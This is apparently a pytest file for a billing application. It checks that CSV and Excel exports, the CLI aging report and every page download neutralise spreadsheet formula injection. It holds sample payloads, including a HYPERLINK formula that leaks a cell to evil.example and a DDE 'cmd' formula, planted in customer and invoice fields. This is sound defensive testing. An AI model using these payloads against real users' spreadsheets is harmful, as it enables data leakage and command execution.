"""CSV injection (OWASP): no export lets a spreadsheet run a cell as a formula.

Real payloads go through `csv_bytes` and `xlsx_bytes` (the workbook read back
as its XML, no spreadsheet library needed), through the CLI's aging CSV, and
through every table download of every page, captured where `ui.downloads`
hands the frame to those two functions.

Decisions: a cell is neutralised with a leading apostrophe when its first
character, or its first non-blank one, is `= + - @`, tab, CR or a full-width
`＝ ＋ － ＠`. A cell that is exactly a plain decimal number (`-12.50`, `+12`)
is left alone, and numeric columns are never touched: a negative amount stays
a number.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from collections.abc import Iterator
from decimal import Decimal
from typing import Any
from xml.etree import ElementTree

import polars as pl
import pytest
from sqlalchemy import Engine
from typer.testing import CliRunner

import ui.downloads
from billing.cli import app
from billing.db import make_engine, write_session
from billing.export import FORMULA_STARTS, csv_bytes, neutralise, xlsx_bytes
from billing.models import ActivityKind
from billing.services import (
    ActivityCreate,
    CustomerCreate,
    InvoiceCreate,
    LineCreate,
    PaymentCreate,
    add_activity,
    create_customer,
    create_invoice,
    post_payment,
)
from tests.app_support import CLERK, log_in, start
from tests.helpers import customer, invoice
from ui.navigation import PAGES

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",  # leading blanks: some importers trim before judging
    "＝1+1",  # full-width equals sign
    "-",
    "=",
]

HARMLESS = [
    "Acme Ltd",
    "-12.50",  # a plain negative number as text: left a number
    "+12",
    "12",
    "a=b",
    "Ünïcödé 🚀",
    "",
]

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def xlsx_cells(data: bytes) -> list[list[tuple[str, str]]]:
    """Each row of the first sheet as (type, text) cells: type "s" is text, "n" a number."""
    book = zipfile.ZipFile(io.BytesIO(data))
    shared = [
        "".join(t.text or "" for t in si.iter(f"{MAIN}t"))
        for si in ElementTree.fromstring(book.read("xl/sharedStrings.xml")).iter(f"{MAIN}si")
    ]
    sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    rows = []
    for row in sheet.iter(f"{MAIN}row"):
        cells = []
        for cell in row.iter(f"{MAIN}c"):
            assert cell.find(f"{MAIN}f") is None, "a formula was written"
            value = cell.find(f"{MAIN}v")
            kind = cell.get("t", "n")
            text = "" if value is None else value.text or ""
            cells.append(("s", _unescape(shared[int(text)])) if kind == "s" else (kind, text))
        rows.append(cells)
    return rows


def _unescape(text: str) -> str:
    """OOXML writes control characters as `_xHHHH_` (a CR is `_x000D_`)."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m[1], 16)), text)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_neutralised_in_csv_and_excel(payload: str) -> None:
    frame = pl.DataFrame({"name": [payload], "amount": [Decimal("-12.50")]})
    assert csv_cells(csv_bytes(frame))[1] == ["'" + payload, "-12.50"]
    assert xlsx_cells(xlsx_bytes(frame))[1] == [("s", "'" + payload), ("n", "-12.50")]


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_kept_as_it_is(text: str) -> None:
    frame = pl.DataFrame({"name": [text]})
    assert csv_cells(csv_bytes(frame))[1] == [text]
    assert neutralise(text) == text


def test_negative_numbers_in_numeric_columns_stay_numbers() -> None:
    frame = pl.DataFrame(
        {
            "decimal": [Decimal("-12.50"), Decimal("0.01")],
            "integer": [-1250, 1],
            "text": ["-12.50", "=1+1"],
        },
        schema={"decimal": pl.Decimal(12, 2), "integer": pl.Int64, "text": pl.String},
    )
    assert csv_cells(csv_bytes(frame))[1:] == [
        ["-12.50", "-1250", "-12.50"],
        ["0.01", "1", "'=1+1"],
    ]
    rows = xlsx_cells(xlsx_bytes(frame))
    assert rows[1] == [("n", "-12.50"), ("n", "-1250"), ("s", "-12.50")]
    assert rows[2] == [("n", "0.01"), ("n", "1"), ("s", "'=1+1")]


def test_column_names_are_neutralised_too() -> None:
    frame = pl.DataFrame({"=1+1": [1], "customer": ["x"]})
    assert csv_cells(csv_bytes(frame))[0] == ["'=1+1", "customer"]
    assert xlsx_cells(xlsx_bytes(frame))[0] == [("s", "'=1+1"), ("s", "customer")]


def test_nothing_dangerous_survives_any_text() -> None:
    """Every first character of the list × the payload shapes: the output never leads with one."""
    for first in FORMULA_STARTS:
        for body in ("1+1", "cmd|' /C calc'!A0", "", " x"):
            for lead in ("", " ", "  "):
                text = lead + first + body
                out = neutralise(text)
                assert out.startswith("'") or not _dangerous(out), repr(out)


# --- the CLI's aging CSV ---------------------------------------------------------------


def test_cli_aging_csv_neutralises_a_hostile_customer(engine: Engine) -> None:
    payload = '=HYPERLINK("http://evil.example","x")'
    customer(engine, "C666", name=payload)
    invoice(engine, "INV-666", "C666", dt.date(2026, 1, 10), 12345)
    result = CliRunner().invoke(
        app,
        ["report", "aging", "--as-of", "2026-03-31", "--format", "csv"],
        env={"BILLING_DATABASE_URL": engine.url.render_as_string(False)},
    )
    assert result.exit_code == 0, result.stderr
    rows = csv_cells(result.stdout.encode())
    [row] = [r for r in rows if r[0] == "C666"]
    # Due 2026-02-09 (30-day terms); 2026-03-31 − 02-09 = 19 + 31 = 50 days → 31-60.
    assert row == ["C666", "'" + payload, "0.00", "0.00", "123.45", "0.00", "0.00", "123.45"]


# --- every table download of every page ------------------------------------------------

NAME = '=HYPERLINK("http://evil.example","x")'
LINE = "=cmd|' /C calc'!A0"
DESCRIPTION = "@SUM(1+1)"
METHOD = "+1+1"
NOTE = "-2+3"


@pytest.fixture
def hostile_app(app_db: str) -> str:
    """The seeded app plus customer C666 whose every text field is a payload."""
    engine = make_engine(app_db)
    with write_session(engine) as s:
        create_customer(s, actor=CLERK, data=CustomerCreate("C666", NAME, "USD"))
        create_invoice(
            s,
            actor=CLERK,
            data=InvoiceCreate(
                "INV-666",
                "C666",
                dt.date(2026, 1, 10),
                [LineCreate(LINE, Decimal(1), 12345)],
                description=DESCRIPTION,
            ),
            post=True,
        )
        post_payment(
            s,
            actor=CLERK,
            data=PaymentCreate("C666", "PAY-666", dt.date(2026, 2, 1), 100, method=METHOD),
        )
        add_activity(
            s,
            actor=CLERK,
            data=ActivityCreate("C666", ActivityKind.NOTE, dt.date(2026, 2, 2), NOTE),
        )
    engine.dispose()
    return app_db


@pytest.fixture
def downloads(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[pl.DataFrame]]:
    """Every frame a page hands to the CSV/Excel buttons, as `ui.downloads` receives it."""
    seen: list[pl.DataFrame] = []
    original = ui.downloads.download_buttons

    def record(frame: pl.DataFrame, **options: Any) -> None:
        seen.append(frame)
        original(frame, **options)

    monkeypatch.setattr(ui.downloads, "download_buttons", record)
    yield seen


def test_every_page_download_is_neutralised(
    hostile_app: str, downloads: list[pl.DataFrame]
) -> None:
    """Each page's frames as downloaded, and again with a payload in every text cell.

    The pages show a customer as "C666 · name", so the hostile name reaches the
    downloads but never leads a cell; the second pass puts payloads first in
    every text column of the real frames (whatever their dtypes) to prove the
    export itself neutralises them.
    """
    at = log_in(start(as_of="2026-03-31"), "admin")
    for spec in PAGES:
        at.switch_page(spec.path).run()
        assert not at.exception, spec.path
    assert len(downloads) >= 10, "the pages offer fewer downloads than they did"
    text_cells = [
        v
        for frame in downloads
        for c, t in frame.schema.items()
        if t in (pl.String, pl.Categorical) or isinstance(t, pl.Enum)
        for v in frame[c].cast(pl.String).to_list()
        if v is not None
    ]
    assert any(NAME in cell for cell in text_cells), "the hostile name reached no download"
    for frame in downloads:
        texts = [c for c, t in frame.schema.items() if t == pl.String]
        poisoned = frame.with_columns(pl.lit(LINE).alias(c) for c in texts)
        for version in (frame, poisoned):
            for row in csv_cells(csv_bytes(version))[1:]:
                assert not any(_dangerous(cell) for cell in row), row
            for typed in xlsx_cells(xlsx_bytes(version))[1:]:
                assert not any(kind == "s" and _dangerous(cell) for kind, cell in typed), typed
        csv_poisoned = csv_cells(csv_bytes(poisoned))
        for c in texts:
            column = csv_poisoned[0].index(c)
            assert {row[column] for row in csv_poisoned[1:]} <= {"'" + LINE}


def test_enum_and_categorical_columns_are_text_too() -> None:
    frame = pl.DataFrame(
        {"kind": ["=1+1"], "label": ["@SUM(1)"]},
        schema={"kind": pl.Enum(["=1+1", "ok"]), "label": pl.Categorical},
    )
    assert csv_cells(csv_bytes(frame))[1] == ["'=1+1", "'@SUM(1)"]
    assert xlsx_cells(xlsx_bytes(frame))[1] == [("s", "'=1+1"), ("s", "'@SUM(1)")]


def _dangerous(cell: str) -> bool:
    return cell.lstrip().startswith(FORMULA_STARTS) and not re.fullmatch(
        r"[+-]?[0-9]+(\.[0-9]+)?", cell
    )
